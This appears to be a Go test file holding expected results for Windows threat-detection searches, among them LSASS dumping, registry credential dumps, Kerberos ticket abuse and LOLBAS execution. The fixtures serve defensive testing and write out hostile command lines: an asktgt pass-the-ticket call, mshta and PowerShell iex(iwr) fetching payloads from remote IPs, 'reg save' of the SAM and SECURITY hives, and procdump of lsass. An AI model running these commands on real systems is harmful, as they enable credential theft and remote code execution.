package cimtest

import "fmt"

// specsC covers §4.4 #21-#29 (same mapping rules as specsA).
func specsC() map[string]detSpec {
	const (
		rb     = `C:\Users\alice.m\AppData\Local\Temp\rb.exe`
		helper = `C:\Users\alice.m\AppData\Local\Temp\setup_helper.exe`
		elev   = `C:\Users\alice.m\AppData\Local\Temp\elev.exe`
		temp   = `C:\Users\alice.m\AppData\Local\Temp\`
		svc    = `C:\Windows\System32\svchost.exe`
	)
	return map[string]detSpec{
		"unknown_process_using_the_kerberos_protocol": {
			name: "Unknown Process Using The Kerberos Protocol",
			cases: []detCase{
				// Sysmon 1 joined on process_id and dest with Sysmon 3 to port
				// 88 (All_Traffic.src = SourceHostname, renamed dest). BY
				// _time without span keeps each event's _time (epoch number).
				{file: "sysmon1", want: []row{{
					"_time": epoch("2025-03-03T08:00:00.25Z"), "dest": h1, "parent_process_name": "cmd.exe", "process_name": "rb.exe",
					"process_path": rb, "process": "rb.exe asktgt /user:svc_sql /rc4:0123456789abcdef0123456789abcdef /ptt",
					"process_id": "4800", "dest_port": "88"}}},
				{file: "negative"}, // lsass to 88 (excluded) and firefox to 443
			},
		},
		"detect_rare_executables": {
			name: "Detect Rare Executables",
			cases: []detCase{
				{file: "sysmon1", want: []row{{
					"process_name": "tool.exe", "dc_dest": "2", "dest": mv(h1, "WS-HR-002.corp.example"), "user": mv(u1, "carol.t"),
					"firstTime": ctime("2025-03-04T12:00:00.25Z"), "lastTime": ctime("2025-03-04T12:05:00.75Z")}}},
				{file: "sec4688", want: []row{{
					"process_name": "agentx.exe", "dc_dest": "1", "dest": h2, "user": "SRV-APP-03$",
					"firstTime": ctime("2025-03-04T12:30:00.125Z"), "lastTime": ctime("2025-03-04T12:30:00.125Z")}}},
				{file: "negative"}, // one executable on 10 hosts: dc_dest < 10 fails
			},
		},
		"windows_network_share_interaction_with_net": {
			name: "Windows Network Share Interaction With Net",
			cases: []detCase{
				// values(user_category/user_bunit) of absent A&I fields are
				// empty, so those columns are absent from the row.
				{file: "sysmon1", want: []row{once("2025-03-05T09:00:00.250Z", row{
					"user": u1, "dest": h1, "process_exec": "net.exe", "parent_process_exec": "cmd.exe",
					"process": `net view \\FS01 /all`, "parent_process": `"C:\Windows\system32\cmd.exe"`})}},
				// 4688 has no parent_process_exec mapping (§3.2): "null".
				{file: "sec4688", want: []row{once("2025-03-05T09:20:00.500Z", row{
					"user": u2, "dest": h2, "process_exec": "net.exe", "parent_process_exec": "null",
					"process": `C:\Windows\System32\net.exe use \\10.20.1.5\C$ /user:CORP\svc_backup Winter2025!`, "parent_process": cmdExe})}},
				{file: "negative"}, // net user: "use" followed by "r", not whitespace
			},
		},
		"windows_privilege_escalation_suspicious_process_elevation": {
			name: "Windows Privilege Escalation Suspicious Process Elevation",
			cases: []detCase{
				// Medium parent (main search, renamed to parent_*/orig_*)
				// joined on dest and its process_guid with the High child in
				// a user folder (subsearch keyed by the child's
				// parent_process_guid); 3 > 2 passes the where. The subsearch
				// has no process_guid BY field, so no process_guid column.
				{file: "sysmon1", want: []row{{
					"dest": h1, "user": u1, "src_user": u1,
					"parent_process_name": "setup_helper.exe", "parent_process": `"` + helper + `" /install`, "parent_process_path": helper,
					"parent_process_guid": guid(6000), "parent_process_integrity_level": "medium", "parent_process_current_directory": temp,
					"process_name": "elev.exe", "process": elev + " -svc", "process_path": elev, "process_integrity_level": "high",
					"process_current_directory": temp,
					"orig_parent_process_name":  "explorer.exe", "orig_parent_process": explore, "orig_parent_process_guid": guid(5528),
					"firstTime": ctime("2025-03-06T14:00:00.25Z"), "lastTime": ctime("2025-03-06T14:00:02.75Z"), "count": "1"}}},
				{file: "negative"}, // the child stays at Medium
			},
		},
		"svchost_lolbas_execution_process_spawn": {
			name: "Svchost LOLBAS Execution Process Spawn",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-03-07T03:03:03.125Z", row{
					"dest": h1, "user": u1, "parent_process": `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, "process_name": "mshta.exe",
					"process": "mshta.exe http://203.0.113.9/a.hta", "process_id": "2600", "parent_process_id": "1180"})}},
				{file: "sec4688", want: []row{once("2025-03-07T03:20:00.375Z", row{
					"dest": h2, "user": "SRV-APP-03$", "parent_process": svc, "process_name": "schtasks.exe",
					"process": `C:\Windows\System32\schtasks.exe /run /tn \Microsoft\Windows\Updater`, "process_id": "0xa48", "parent_process_id": "0x49c"})}},
				{file: "negative"}, // svchost starting WmiPrvSE
			},
		},
		"windows_conhost_with_headless_argument": {
			name: "Windows ConHost with Headless Argument",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-03-08T18:18:18.500Z", row{
					"dest": h1, "user": u1, "parent_process": `wscript.exe C:\Users\alice.m\AppData\Roaming\st.js`, "process_name": "conhost.exe",
					"process":    `conhost.exe --headless powershell.exe -nop -w hidden -c "iex(iwr http://198.51.100.3/s)"`,
					"process_id": "5800", "parent_process_id": "5780"})}},
				{file: "sec4688", want: []row{once("2025-03-08T18:40:00.125Z", row{
					"dest": h2, "user": u2, "parent_process": `C:\Windows\System32\schtasks.exe`, "process_name": "conhost.exe",
					"process":    `"C:\Windows\System32\conhost.exe" --headless cmd.exe /c C:\ProgramData\r.bat`,
					"process_id": "0x1700", "parent_process_id": "0x16e0"})}},
				{file: "negative"}, // the usual 0xffffffff -ForceV1 console host
			},
		},
		"excessive_distinct_processes_from_windows_temp": {
			name: "Excessive distinct processes from Windows Temp",
			cases: []detCase{
				// 38 distinct command lines in one 20-minute bucket (> 37).
				{file: "sysmon1", want: []row{{
					"dest": h1, "user": u1, "_time": epoch("2025-03-09T10:00:00Z"),
					"process": mv(seq(`C:\Windows\Temp\tmp%02d.exe`, 38)...), "distinct_process_count": "38",
					"firstTime": ctime("2025-03-09T10:01:00.25Z"), "lastTime": ctime("2025-03-09T10:07:09.25Z")}}},
				{file: "sec4688", want: []row{{
					"dest": h2, "user": u2, "_time": epoch("2025-03-09T11:00:00Z"),
					"process": mv(seq(`C:\Windows\Temp\Svc%02d.exe /i`, 38)...), "distinct_process_count": "38",
					"firstTime": ctime("2025-03-09T11:02:00.5Z"), "lastTime": ctime("2025-03-09T11:09:22.5Z")}}},
				{file: "negative"}, // 37 distinct (one repeated)
			},
		},
		"attempted_credential_dump_from_registry_via_reg_exe": {
			name: "Attempted Credential Dump From Registry via Reg exe",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-03-10T02:22:22.250Z", row{
					"dest": h1, "user": u1, "parent_process": `"C:\Windows\system32\cmd.exe"`, "parent_process_name": "cmd.exe",
					"process_name": "reg.exe", "original_file_name": "reg.exe", "process": `reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv`,
					"process_id": "2500", "parent_process_id": "2480"})}},
				{file: "sec4688", want: []row{once("2025-03-10T02:40:00.875Z", row{
					"dest": h2, "user": u2, "parent_process": psExe, "parent_process_name": "powershell.exe",
					"process_name": "cmd.exe", "original_file_name": "unknown",
					"process":    `C:\Windows\System32\cmd.exe /c reg save HKEY_LOCAL_MACHINE\SECURITY C:\ProgramData\sec.save`,
					"process_id": "0x9c8", "parent_process_id": "0x9b0"})}},
				{file: "negative"}, // reg save of an HKCU key
			},
		},
		"dump_lsass_via_procdump": {
			name: "Dump LSASS via procdump",
			cases: []detCase{
				{file: "sysmon1", want: []row{once("2025-03-11T23:59:58.750Z", row{
					"user": u1, "parent_process_name": "cmd.exe", "process_name": "procdump64.exe",
					"process": `procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp`, "original_file_name": "procdump", "dest": h1})}},
				{file: "sec4688", want: []row{once("2025-03-12T00:10:00.250Z", row{
					"user": u2, "parent_process_name": "cmd.exe", "process_name": "procdump.exe",
					"process":            `C:\Tools\Sysinternals\procdump.exe -accepteula -mm lsass.exe C:\ProgramData\l.dmp`,
					"original_file_name": "unknown", "dest": h2})}},
				{file: "negative"}, // procdump of chrome.exe
			},
		},
	}
}

// seq returns format applied to 1..n, which sort in that order.
func seq(format string, n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = fmt.Sprintf(format, i+1)
	}
	return out
}
